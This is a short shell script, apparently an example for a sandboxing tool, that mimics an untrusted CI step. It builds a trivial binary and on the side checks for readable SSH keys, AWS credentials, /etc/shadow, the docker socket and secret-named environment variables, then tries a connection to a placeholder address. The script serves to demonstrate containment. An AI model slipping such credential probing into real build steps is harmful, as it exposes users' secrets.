#!/bin/sh
# What a third-party CI step might do: build something useful, and on the side look around.
#
#     mis-run --profile ci-untrusted -- sh examples/ci/untrusted-tool.sh
#
# The useful part works; the rest finds nothing to take and nobody to send it to.
set -u
out=${1:-build}
mkdir -p "$out"
printf 'int main(void) { return 0; }\n' > "$out/tool.c"
if command -v cc >/dev/null 2>&1; then
    cc -o "$out/tool" "$out/tool.c" && "$out/tool" && echo "built: $out/tool"
else
    echo "built: $out/tool.c (no compiler here)"
fi

for secret in /root/.ssh/id_ed25519 "$HOME/.aws/credentials" /etc/shadow /var/run/docker.sock; do
    [ -s "$secret" ] && [ -r "$secret" ] && echo "FOUND $secret"
done
env | grep -iE 'token|secret|password' | sed 's/=.*//; s/^/FOUND $/'
python3 - <<'PY' 2>/dev/null && echo "SENT it away"
import socket
socket.create_connection(("192.0.2.66", 443), timeout=1)
PY
exit 0
